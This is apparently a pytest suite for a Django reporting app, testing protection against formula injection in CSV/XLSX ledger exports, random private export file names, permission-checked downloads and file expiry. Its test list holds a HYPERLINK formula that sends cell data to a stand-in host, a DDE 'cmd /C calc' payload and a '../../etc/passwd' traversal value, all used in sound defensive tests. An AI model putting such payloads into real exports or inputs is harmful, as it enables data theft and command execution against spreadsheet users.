"""Export hardening (issue 16): formula cells neutralised in CSV (both paths) and XLSX; files outside any served
folder with random names, downloads only through the checked view, removed after the retention."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal as D

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from reports.exports import ledger_csv, ledger_xlsx, neutralise
from reports.models import ExportJob
from reports.selectors import ledger_rows
from reports.services import export_cleanup, export_job_run
from tests.factories import CampaignFactory, StaffFactory

pytestmark = pytest.mark.django_db

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.fixture
def evil_ledger():
    campaign = CampaignFactory(total_budget=D("100.00"), bucket_count=1)
    bucket = campaign.buckets.get()
    with connection.cursor() as cursor:
        for i, reason in enumerate(EVIL):  # append-only ledger: net-zero pairs written directly
            for amount in ("1.00", "-1.00"):
                cursor.execute(
                    "INSERT INTO campaign_ledgerentry (campaign_id, bucket_id, kind, amount, reason, created_at) "
                    "VALUES (%s, %s, 'adjust', %s, %s, now())", [campaign.pk, bucket.pk, amount, reason if amount[0] == "1" else f"ok {i}"])
    return campaign


def _reasons(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    return [row[-1] for row in rows[1:]]


def _check_reasons(reasons: list[str]) -> None:
    evil = [r for r in reasons if r in EVIL or r[1:] in EVIL]
    assert len(evil) == len(EVIL), reasons
    for value in evil:
        assert value.startswith("'") and value[1:] in EVIL, value  # Excel shows the text, runs nothing


def test_neutralise_rule():
    assert [neutralise(v) for v in EVIL] == ["'" + v for v in EVIL]
    assert neutralise("正常备注 = 1") == "正常备注 = 1"
    assert neutralise(D("-5.00")) == D("-5.00")  # numbers keep their sign


def test_python_csv_path_neutralises_text(evil_ledger):
    out = io.StringIO()
    ledger_csv(ledger_rows(campaign=evil_ledger), out)
    _check_reasons(_reasons(out.getvalue()))
    assert ",-1.00," in out.getvalue()  # money is a number, not text: no apostrophe


def test_copy_path_neutralises_text(evil_ledger, settings, tmp_path):
    assert connection.vendor == "postgresql"
    settings.MIANDAN_EXPORT_ROOT = tmp_path
    job = ExportJob.objects.create(campaign=evil_ledger, kind="ledger", format="csv")
    job = export_job_run(job_id=job.pk)
    with open(tmp_path / job.file, encoding="utf-8", newline="") as fh:  # keep a CR inside a field
        text = fh.read()
    _check_reasons(_reasons(text))
    assert ",-1.00," in text


def test_xlsx_text_cells_are_strings_never_formulas(evil_ledger):
    out = io.BytesIO()
    ledger_xlsx(ledger_rows(campaign=evil_ledger), out)
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue()))["预算流水"]
    reasons = [row[-1] for row in ws.iter_rows(min_row=2)]
    evil = [c for c in reasons if c.value in EVIL]
    assert len(evil) == len(EVIL)
    assert all(c.data_type == "s" for c in evil), [(c.value, c.data_type) for c in evil]


def test_export_files_have_random_names_outside_media_and_expire(client, settings, tmp_path):
    settings.MIANDAN_EXPORT_ROOT = tmp_path / "private"
    settings.MEDIA_ROOT = tmp_path / "media"
    campaign = CampaignFactory(bucket_count=1)
    first = export_job_run(job_id=ExportJob.objects.create(campaign=campaign, kind="ledger", format="csv").pk)
    second = export_job_run(job_id=ExportJob.objects.create(campaign=campaign, kind="ledger", format="csv").pk)
    for job in (first, second):
        assert (tmp_path / "private" / job.file).is_file()
        assert len(job.file.rsplit("-", 1)[-1].split(".")[0]) == 32  # 128 random bits in the name
    assert first.file.rsplit("-", 1)[-1] != second.file.rsplit("-", 1)[-1]
    assert not (tmp_path / "media").exists()
    # Only the permission-checked view serves it: finance yes, marketing no, anonymous to the login page.
    url = reverse("admin:reports_exportjob_download", args=[first.pk])
    assert client.get(url).status_code == 302
    client.force_login(StaffFactory(groups=["marketing"]))
    assert client.get(url).status_code == 404
    client.force_login(StaffFactory(groups=["finance"]))
    assert client.get(url).status_code == 200
    # A file name pointing outside the root is never served.
    ExportJob.objects.filter(pk=second.pk).update(file="../../etc/passwd")
    assert client.get(reverse("admin:reports_exportjob_download", args=[second.pk])).status_code == 404
    # Past the retention the file goes and the download with it.
    assert export_cleanup(now=timezone.now() + dt.timedelta(hours=settings.MIANDAN_EXPORT_RETENTION_HOURS - 1)) == 0
    assert export_cleanup(now=timezone.now() + dt.timedelta(hours=settings.MIANDAN_EXPORT_RETENTION_HOURS + 1)) >= 1
    assert not (tmp_path / "private" / first.file).exists()
    assert client.get(url).status_code == 404


def test_the_cleanup_runs_from_beat(settings):
    assert settings.CELERY_BEAT_SCHEDULE["reports-export-cleanup"]["task"] == "reports.export_cleanup"
    from miandan.celery import app
    from reports.tasks import export_cleanup_task

    assert app.tasks["reports.export_cleanup"].name == export_cleanup_task.name


def test_the_budget_report_get_reuses_one_reconcile_briefly(client, settings):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    campaign = CampaignFactory(bucket_count=2)
    client.force_login(StaffFactory(groups=["finance"]))
    url = f"/api/v1/reports/campaigns/{campaign.slug}/budget"
    with CaptureQueriesContext(connection) as first:
        assert client.get(url).status_code == 200
    with CaptureQueriesContext(connection) as again:
        assert client.get(url).status_code == 200
        assert client.get(url + "?format=csv").status_code == 200
    heavy = [q for q in again if "campaign_ledgerentry" in q["sql"] or "vouchers_voucher" in q["sql"]]
    assert len(first) > len(again) and heavy == [], [q["sql"][:120] for q in heavy]
    settings.MIANDAN_REPORT_CACHE_SECONDS = 0  # off: every GET reconciles
    with CaptureQueriesContext(connection) as fresh:
        client.get(url)
    assert any("campaign_ledgerentry" in q["sql"] for q in fresh)
